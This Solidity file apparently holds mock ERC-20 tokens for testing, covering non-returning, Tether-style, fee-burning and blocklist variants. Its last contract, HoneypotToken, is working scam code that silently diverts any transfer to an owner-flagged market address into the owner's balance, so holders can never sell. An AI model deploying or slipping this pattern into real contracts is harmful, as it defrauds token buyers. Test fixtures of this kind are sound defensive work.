// SPDX-License-Identifier: MIT
pragma solidity 0.8.26;

/// Balances and allowances; the two faces below differ only in what they return.
abstract contract Ledger {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    string public name;
    string public symbol;
    uint8 public immutable decimals;
    uint256 public totalSupply;
    address public immutable owner;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    constructor(string memory name_, string memory symbol_, uint8 decimals_, uint256 supply, address holder) {
        name = name_;
        symbol = symbol_;
        decimals = decimals_;
        owner = holder;
        totalSupply = supply;
        balanceOf[holder] = supply;
        emit Transfer(address(0), holder, supply);
    }

    function _approve(address spender, uint256 amount) internal virtual {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
    }

    function _spend(address from, uint256 amount) internal {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) {
            require(allowed >= amount, "allowance too low");
            allowance[from][msg.sender] = allowed - amount;
        }
    }

    function _move(address from, address to, uint256 amount) internal virtual {
        require(balanceOf[from] >= amount, "balance too low");
        unchecked {
            balanceOf[from] -= amount;
            balanceOf[to] += amount;
        }
        emit Transfer(from, to, amount);
    }
}

/// A plain ERC-20.
contract Token is Ledger {
    constructor(string memory n, string memory s, uint8 d, uint256 supply, address holder) Ledger(n, s, d, supply, holder) {}

    function approve(address spender, uint256 amount) external returns (bool) {
        _approve(spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        _spend(from, amount);
        _move(from, to, amount);
        return true;
    }
}

/// Returns nothing, as old tokens do.
contract SilentToken is Ledger {
    constructor(string memory n, string memory s, uint8 d, uint256 supply, address holder) Ledger(n, s, d, supply, holder) {}

    function approve(address spender, uint256 amount) external {
        _approve(spender, amount);
    }

    function transfer(address to, uint256 amount) external {
        _move(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external {
        _spend(from, amount);
        _move(from, to, amount);
    }
}

/// Tether's manners on mainnet: returns nothing, and a standing allowance must go to zero before it changes.
contract TetherToken is SilentToken {
    constructor(string memory n, string memory s, uint8 d, uint256 supply, address holder) SilentToken(n, s, d, supply, holder) {}

    function _approve(address spender, uint256 amount) internal override {
        require(amount == 0 || allowance[msg.sender][spender] == 0, "approve zero first");
        super._approve(spender, amount);
    }
}

/// Burns 5 % of every transfer, except the owner's.
contract FeeToken is Token {
    constructor(string memory n, string memory s, uint8 d, uint256 supply, address holder) Token(n, s, d, supply, holder) {}

    function _move(address from, address to, uint256 amount) internal override {
        uint256 fee = from == owner ? 0 : amount / 20;
        super._move(from, to, amount - fee);
        if (fee != 0) {
            balanceOf[from] -= fee;
            totalSupply -= fee;
            emit Transfer(from, address(0), fee);
        }
    }
}

/// The owner can bar an address from sending and receiving.
contract BlocklistToken is Token {
    mapping(address => bool) public blocked;

    constructor(string memory n, string memory s, uint8 d, uint256 supply, address holder) Token(n, s, d, supply, holder) {}

    function setBlocked(address who, bool on) external {
        require(msg.sender == owner, "owner only");
        blocked[who] = on;
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(!blocked[from] && !blocked[to], "blocked");
        super._move(from, to, amount);
    }
}

/// Can be bought, never sold: what goes to a market arrives as nothing.
contract HoneypotToken is Token {
    mapping(address => bool) public market;

    constructor(string memory n, string memory s, uint8 d, uint256 supply, address holder) Token(n, s, d, supply, holder) {}

    function setMarket(address pool) external {
        require(msg.sender == owner, "owner only");
        market[pool] = true;
    }

    function _move(address from, address to, uint256 amount) internal override {
        super._move(from, market[to] && from != owner ? owner : to, amount);
    }
}
